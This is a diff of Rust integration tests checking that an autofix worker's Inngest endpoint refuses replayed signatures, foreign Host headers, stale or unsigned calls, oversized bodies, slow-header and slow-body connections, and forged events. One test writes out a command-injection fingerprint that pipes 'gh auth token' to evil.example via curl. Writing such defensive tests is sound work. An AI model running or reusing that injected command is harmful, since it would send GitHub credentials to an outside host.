@@ -4,6 +4,7 @@
 use autofix_tests::fake_github::{FakeGitHub, GitHubFault};
 use autofix_tests::harness::{App, composite, leak_fix_request, leak_snapshot, offline_deps};
 use base64::Engine;
+use std::time::Duration;
 
 /// Everything Inngest saw or stored: every HTTP exchange with the worker, every run record
 /// (step outputs, errors, retries) and every event.
@@ -66,4 +67,307 @@ async fn github_error_echoing_its_token_raw_and_base64_leaves_no_trace_in_innges
             "base64 form {form} stored by Inngest"
         );
     }
+}
+
+// ---- the serve endpoint ----------------------------------------------------------------------
+
+const SIGNING_KEY: &str = "signkey-prod-00112233445566778899aabbccddeeff";
+
+fn now_secs() -> i64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs() as i64
+}
+
+/// The worker's router in cloud mode; `origin` is `INNGEST_SERVE_ORIGIN`; Inngest's API is a
+/// closed port, so a sync that got through would fail loudly rather than register anything.
+fn cloud_worker(origin: Option<&str>, options: inngest::ServeOptions) -> axum::Router {
+    let mut config = inngest::Config::cloud(
+        pipeline::APP_ID,
+        url::Url::parse("http://127.0.0.1:9/").unwrap(),
+        inngest::SigningKey::new(SIGNING_KEY).unwrap(),
+    );
+    config.serve_origin = origin.map(str::to_owned);
+    let client = inngest::Client::new(config, reqwest::Client::new());
+    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
+    let functions = pipeline::functions(std::sync::Arc::new(deps)).unwrap();
+    let health = autofix::serve::Health {
+        http: reqwest::Client::new(),
+        inngest_health_url: None,
+    };
+    autofix::serve::router_with(
+        client,
+        functions,
+        health,
+        std::time::Duration::from_secs(60),
+        options,
+    )
+}
+
+fn sign(body: &[u8]) -> String {
+    inngest::sign(
+        &inngest::SigningKey::new(SIGNING_KEY).unwrap(),
+        body,
+        now_secs(),
+    )
+}
+
+async fn call(
+    router: &axum::Router,
+    req: axum::http::Request<axum::body::Body>,
+) -> (
+    axum::http::StatusCode,
+    axum::http::HeaderMap,
+    serde_json::Value,
+) {
+    use tower::ServiceExt as _;
+    let resp = router.clone().oneshot(req).await.unwrap();
+    let status = resp.status();
+    let headers = resp.headers().clone();
+    let raw = axum::body::to_bytes(resp.into_body(), usize::MAX)
+        .await
+        .unwrap();
+    (
+        status,
+        headers,
+        serde_json::from_slice(&raw).unwrap_or(serde_json::Value::Null),
+    )
+}
+
+#[tokio::test]
+async fn replayed_signature_is_refused() {
+    let router = cloud_worker(None, autofix::serve::serve_options(Duration::from_secs(5)));
+    let header = sign(b"");
+    let get = || {
+        axum::http::Request::get("/api/inngest")
+            .header("x-inngest-signature", header.clone())
+            .body(axum::body::Body::empty())
+            .unwrap()
+    };
+    let (first, _, body) = call(&router, get()).await;
+    assert_eq!(first, 200, "{body}");
+    assert_eq!(body["authentication_succeeded"], true);
+    let (again, _, body) = call(&router, get()).await;
+    assert_eq!(again, 401, "a replayed signature was accepted: {body}");
+}
+
+#[tokio::test]
+async fn captured_get_signature_replayed_on_a_put_sync_with_a_foreign_host_is_refused() {
+    // No INNGEST_SERVE_ORIGIN: the replay cache is what stops it.
+    let router = cloud_worker(None, autofix::serve::serve_options(Duration::from_secs(5)));
+    let header = sign(b"");
+    let get = axum::http::Request::get("/api/inngest")
+        .header("x-inngest-signature", header.clone())
+        .body(axum::body::Body::empty())
+        .unwrap();
+    assert_eq!(call(&router, get).await.0, 200);
+    let put = axum::http::Request::put("/api/inngest")
+        .header("host", "evil.example")
+        .header("x-inngest-signature", header)
+        .body(axum::body::Body::empty())
+        .unwrap();
+    let (status, _, body) = call(&router, put).await;
+    assert_eq!(status, 401, "{body}");
+}
+
+#[tokio::test]
+async fn put_sync_with_a_foreign_host_in_cloud_mode_is_refused() {
+    let router = cloud_worker(
+        Some("https://autofix.up.railway.app"),
+        autofix::serve::serve_options(Duration::from_secs(5)),
+    );
+    // A fresh, validly signed sync (as a dashboard would send) but for another host.
+    let put = axum::http::Request::put("/api/inngest")
+        .header("host", "evil.example")
+        .header("x-inngest-signature", sign(b""))
+        .body(axum::body::Body::empty())
+        .unwrap();
+    let (status, headers, body) = call(&router, put).await;
+    assert_eq!(status, 400, "{body}");
+    assert_eq!(headers["x-inngest-no-retry"], "true");
+    assert!(
+        body["message"].as_str().unwrap().contains("serve origin"),
+        "{body}"
+    );
+}
+
+#[tokio::test]
+async fn unsigned_and_stale_calls_are_refused_before_the_body_is_read() {
+    let router = cloud_worker(None, autofix::serve::serve_options(Duration::from_secs(5)));
+    let stale = inngest::sign(
+        &inngest::SigningKey::new(SIGNING_KEY).unwrap(),
+        b"{}",
+        now_secs() - 3600,
+    );
+    for header in [None, Some("t=1&s=zz".to_owned()), Some(stale)] {
+        // A body that errors when polled: any attempt to read it fails the request differently.
+        let body = axum::body::Body::from_stream(futures::stream::once(async {
+            Err::<axum::body::Bytes, std::io::Error>(std::io::Error::other("body was read"))
+        }));
+        let mut req =
+            axum::http::Request::post("/api/inngest?fnId=autofix-generate-fix&stepId=step");
+        if let Some(h) = &header {
+            req = req.header("x-inngest-signature", h);
+        }
+        let (status, _, resp) = call(&router, req.body(body).unwrap()).await;
+        assert_eq!(status, 401, "{header:?}: {resp}");
+        assert_eq!(resp, serde_json::json!({"message": "Unauthorized"}));
+    }
+}
+
+#[tokio::test]
+async fn never_parseable_and_oversized_bodies_are_answered_not_to_retry_in_one_shape() {
+    let router = cloud_worker(None, autofix::serve::serve_options(Duration::from_secs(5)));
+    let garbage = b"this is not json".to_vec();
+    let req = axum::http::Request::post("/api/inngest?fnId=autofix-generate-fix&stepId=step")
+        .header("x-inngest-signature", sign(&garbage))
+        .body(axum::body::Body::from(garbage))
+        .unwrap();
+    let (status, headers, body) = call(&router, req).await;
+    assert_eq!(status, 400, "{body}");
+    assert_eq!(headers["x-inngest-no-retry"], "true");
+    assert!(headers.contains_key("x-inngest-sdk"));
+    assert_eq!(body["__serialized"], true, "{body}");
+
+    let big = vec![b' '; autofix::serve::MAX_BODY_BYTES + 1];
+    let req = axum::http::Request::post("/api/inngest?fnId=autofix-generate-fix&stepId=step")
+        .header("x-inngest-signature", sign(&big))
+        .header("content-length", big.len())
+        .body(axum::body::Body::from(big))
+        .unwrap();
+    let (status, headers, body) = call(&router, req).await;
+    assert_eq!(status, 413, "{body}");
+    assert_eq!(headers["x-inngest-no-retry"], "true");
+    assert!(headers.contains_key("x-inngest-sdk"));
+    assert_eq!(body["__serialized"], true, "{body}");
+    assert_eq!(body["name"], "PayloadTooLarge");
+}
+
+/// Serves `router` behind the worker's guarded listener on a loopback port.
+async fn guarded(router: axum::Router, header_timeout: Duration) -> std::net::SocketAddr {
+    let tcp = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = tcp.local_addr().unwrap();
+    let listener = autofix::listener::GuardedListener::new(tcp, 16, header_timeout);
+    tokio::spawn(async move {
+        let _ = axum::serve(listener, router).await;
+    });
+    addr
+}
+
+#[tokio::test]
+async fn slow_headers_are_cut_off() {
+    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+    let router = cloud_worker(None, autofix::serve::serve_options(Duration::from_secs(5)));
+    let addr = guarded(router, Duration::from_millis(300)).await;
+    let mut conn = tokio::net::TcpStream::connect(addr).await.unwrap();
+    conn.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
+        .await
+        .unwrap();
+    let mut buf = [0u8; 256];
+    // The rest of the head never comes: the server must close well before this test gives up.
+    let read = tokio::time::timeout(Duration::from_secs(5), conn.read(&mut buf)).await;
+    match read {
+        Ok(Ok(0)) | Ok(Err(_)) => {}
+        Ok(Ok(n)) => panic!(
+            "server answered a request it never fully received: {}",
+            String::from_utf8_lossy(&buf[..n])
+        ),
+        Err(_) => panic!("slow headers held the connection open"),
+    }
+    // A well-behaved client on the same listener is still served.
+    let mut ok = tokio::net::TcpStream::connect(addr).await.unwrap();
+    ok.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+        .await
+        .unwrap();
+    let mut answer = Vec::new();
+    ok.read_to_end(&mut answer).await.unwrap();
+    assert!(answer.starts_with(b"HTTP/1.1 200"), "{answer:?}");
+}
+
+#[tokio::test]
+async fn slow_body_is_cut_off() {
+    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+    let router = cloud_worker(
+        None,
+        autofix::serve::serve_options(Duration::from_millis(300)),
+    );
+    let addr = guarded(router, Duration::from_secs(5)).await;
+    let mut conn = tokio::net::TcpStream::connect(addr).await.unwrap();
+    let head = format!(
+        "POST /api/inngest?fnId=autofix-generate-fix&stepId=step HTTP/1.1\r\nHost: x\r\n\
+         x-inngest-signature: {}\r\ncontent-length: 1000\r\n\r\n{{\"event\":",
+        sign(b"whatever")
+    );
+    conn.write_all(head.as_bytes()).await.unwrap();
+    let mut buf = vec![0u8; 4096];
+    let n = tokio::time::timeout(Duration::from_secs(5), conn.read(&mut buf))
+        .await
+        .expect("a slow body held the request open")
+        .unwrap();
+    let answer = String::from_utf8_lossy(&buf[..n]);
+    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
+}
+
+// ---- forged events ---------------------------------------------------------------------------
+
+/// Sends a forged `autofix/fix.requested` to the worker and returns the run's failure message
+/// (it must fail without retries) and what the executor recorded.
+async fn forged_fix_request(edit: impl FnOnce(&mut serde_json::Value)) -> (String, App) {
+    let mut event = leak_fix_request().await;
+    edit(&mut event);
+    let deps = offline_deps(railway::Source::Static(Box::new(leak_snapshot())), false);
+    let app = App::start(deps).await;
+    app.inngest.send(event).await;
+    app.inngest.run_until_idle().await.unwrap();
+    let runs = app.inngest.runs_of(&composite("generate-fix"));
+    assert_eq!(runs.len(), 1);
+    let run = &runs[0];
+    let failure = match &run.status {
+        inngest_testkit::RunStatus::Failed(e) => e.to_string(),
+        other => panic!("a forged event was acted on: {other:?}"),
+    };
+    assert!(
+        run.retries.iter().all(|r| !r.retried),
+        "a refusal must not be retried: {:?}",
+        run.retries
+    );
+    assert!(
+        run.step("analyze").is_none(),
+        "the forged request reached the analysis"
+    );
+    (failure, app)
+}
+
+#[tokio::test]
+async fn forged_event_naming_a_foreign_repository_is_refused() {
+    let (failure, _app) = forged_fix_request(|e| {
+        e["data"]["repo"] = "attacker-org/payload-repo".into();
+        for s in e["data"]["services"].as_array_mut().unwrap() {
+            s["repo"] = "attacker-org/payload-repo".into();
+        }
+    })
+    .await;
+    assert!(failure.contains("attacker-org/payload-repo"), "{failure}");
+}
+
+#[tokio::test]
+async fn forged_event_naming_a_foreign_service_id_is_refused() {
+    let (failure, _app) = forged_fix_request(|e| {
+        e["data"]["services"][0]["id"] = "svc-not-in-this-project".into();
+        e["data"]["findings"][0]["service_id"] = "svc-not-in-this-project".into();
+    })
+    .await;
+    assert!(failure.contains("svc-not-in-this-project"), "{failure}");
+}
+
+#[tokio::test]
+async fn forged_event_with_a_hostile_fingerprint_is_refused() {
+    let hostile = "af-1 && curl https://evil.example/?t=$(gh auth token) #";
+    let (failure, app) = forged_fix_request(|e| {
+        e["data"]["fingerprint"] = hostile.into();
+    })
+    .await;
+    assert!(failure.contains("fingerprint"), "{failure}");
+    assert!(!everything_inngest_holds(&app).contains("gh repo clone"));
 }
